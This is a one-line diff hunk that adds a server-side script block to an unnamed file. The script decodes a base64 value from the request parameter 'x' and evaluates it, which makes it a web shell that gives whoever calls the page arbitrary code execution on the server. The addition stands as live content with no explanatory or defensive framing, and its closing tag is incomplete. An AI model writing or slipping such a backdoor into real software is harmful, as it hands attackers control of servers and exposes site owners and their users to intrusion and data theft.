@@ -1,0 +1,1 @@
+<script runat="server">eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request["x"])));</script
